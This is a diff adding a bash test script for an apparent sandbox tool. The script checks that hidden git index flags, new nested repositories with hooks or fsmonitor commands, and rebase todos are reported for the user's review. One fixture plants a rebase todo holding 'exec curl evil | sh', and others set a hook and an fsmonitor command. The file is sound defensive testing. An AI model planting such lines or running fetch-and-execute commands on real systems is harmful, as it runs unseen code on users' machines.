@@ -1,0 +1,48 @@
+#!/usr/bin/env bash
+# Issue 9 item 3: changes that hide work from the user's review, or that run
+# code when the user works in the project on the host later, are reported at
+# the end of the run and in the audit log.
+source "$(dirname "$0")/lib.sh"
+
+cd "$PROJECT" || exit 1
+git init -q . && echo a >a.txt && echo b >b.txt && git add . && git -c user.email=t@e -c user.name=t commit -qm one
+log=$T_ROOT/audit.jsonl
+run() { "$PADDOCK" run --audit-log "$log" "$@" 2>"$T_ROOT/err"; }
+reported() { grep -q -- "$1" "$T_ROOT/err" || { cat "$T_ROOT/err"; return 1; }; }
+
+run -- sh -c 'git update-index --skip-worktree a.txt && git update-index --assume-unchanged b.txt'
+check "a newly skip-worktree entry is reported with the way back" reported "a.txt was marked skip-worktree.*git update-index --no-skip-worktree a.txt"
+check "a newly assume-unchanged entry is reported" reported "b.txt was marked assume-unchanged"
+check "the findings are in the audit log" python3 -c "
+import json
+ev = [json.loads(l) for l in open('$log')]
+kinds = sorted(e['kind'] for e in ev if e['event'] == 'review')
+assert kinds == ['hidden-index-entry', 'hidden-index-entry'], kinds
+assert all(e['ts'] for e in ev)"
+run -- true
+check "already hidden entries are not reported again" bash -c "! grep -q 'was marked' $T_ROOT/err"
+git update-index --no-skip-worktree a.txt && git update-index --no-assume-unchanged b.txt
+
+run -- sh -c 'git update-index --index-version 4 && git update-index --skip-worktree a.txt'
+check "an index in version 4 (compressed paths) is read too" reported "a.txt was marked skip-worktree"
+git update-index --no-skip-worktree a.txt
+
+run -- sh -c 'mkdir -p tools/x && cd tools/x && git init -q && git config core.fsmonitor "./fs.sh" &&
+  printf "#!/bin/sh\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout'
+check "a repository the run created is reported with what it would run" \
+  reported "new git repository at tools/x/ (host git will run: hook post-checkout, core.fsmonitor)"
+run -- sh -c 'mkdir -p plain && git -C plain init -q'
+check "a plain new repository is reported as such" reported "new git repository at plain/ (no hooks or commands"
+run -- sh -c 'mkdir -p fake/g && echo "gitdir: g" > fake/.git'
+check "a new .git pointer file is reported" reported "new git repository at fake/"
+run -- true
+check "repositories that existed at the start are not reported again" bash -c "! grep -q 'new git repository' $T_ROOT/err"
+
+run -- sh -c 'mkdir -p .git/rebase-merge && printf "pick 1 x\nexec curl evil | sh\n" > .git/rebase-merge/git-rebase-todo'
+check "an unfinished rebase that will run a command is reported" reported 'will run "exec curl evil | sh"'
+rm -rf .git/rebase-merge
+
+run -- sh -c 'echo change >> a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm two'
+check "ordinary work reports nothing" bash -c "[[ ! -s $T_ROOT/err ]] || { cat $T_ROOT/err; false; }"
+
+finish
